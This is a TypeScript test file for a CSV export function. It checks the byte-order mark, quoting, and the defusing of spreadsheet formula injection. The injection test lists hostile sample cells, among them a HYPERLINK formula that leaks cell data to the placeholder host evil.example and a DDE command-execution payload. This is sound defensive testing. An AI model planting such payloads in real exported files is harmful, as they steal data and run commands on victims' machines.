import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

const BOM = '\uFEFF';
/** The cells of the one data row written for a single value. */
const cellOf = (value: unknown) => (parse(toCsv(['v'], [{ v: value }]), { bom: true }) as string[][])[1]![0]!;

describe('toCsv', () => {
  it('starts with a UTF-8 byte-order mark so Excel reads 2017–2021 as written', () => {
    const text = toCsv(['years'], [{ years: '2017–2021' }]);
    expect(text.startsWith(BOM)).toBe(true);
    expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(text).toContain('2017–2021');
  });

  it('writes a header and rows in the given column order, each line ended by CRLF', () => {
    expect(toCsv(['id', 'value'], [{ value: 1, id: 'a' }, { id: 'b, c' }])).toBe(`${BOM}id,value\r\na,1\r\n"b, c",\r\n`);
  });

  it('quotes commas, quotes and line breaks and reads back to the same text', () => {
    const rows = [
      { id: 'a', text: 'the "OSCE"\nsays, twice' },
      { id: '', text: '' },
    ];
    expect(parse(toCsv(['id', 'text'], rows), { bom: true })).toEqual([
      ['id', 'text'],
      ['a', 'the "OSCE"\nsays, twice'],
      ['', ''],
    ]);
  });

  it('writes null and undefined as empty cells, and true and false as words', () => {
    expect(parse(toCsv(['a', 'b', 'c', 'd'], [{ a: null, c: true, d: false }]), { bom: true })[1]).toEqual(['', '', 'true', 'false']);
  });

  it.each([
    ['=', '=HYPERLINK("https://evil.example/?"&A1,"Source")'],
    ['+', "+1+cmd|' /C calc'!A0"],
    ['-', '-2+3'],
    ['@', '@SUM(A1:A9)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['a line feed', '\n=1+1'],
    ['NUL', '\0=1+1'],
    ['a full-width =', '\uFF1D1+1'],
  ])('neutralises a text cell starting with %s by a leading apostrophe', (_name, value) => {
    expect(cellOf(value)).toBe(`'${value}`);
  });

  it('leaves numbers as numbers, negative ones included, and text that merely contains = alone', () => {
    expect(cellOf(-5)).toBe('-5');
    expect(cellOf(27600000)).toBe('27600000');
    expect(cellOf(-0.25)).toBe('-0.25');
    expect(cellOf('a = b')).toBe('a = b');
    expect(cellOf('2017–2021')).toBe('2017–2021');
  });
});
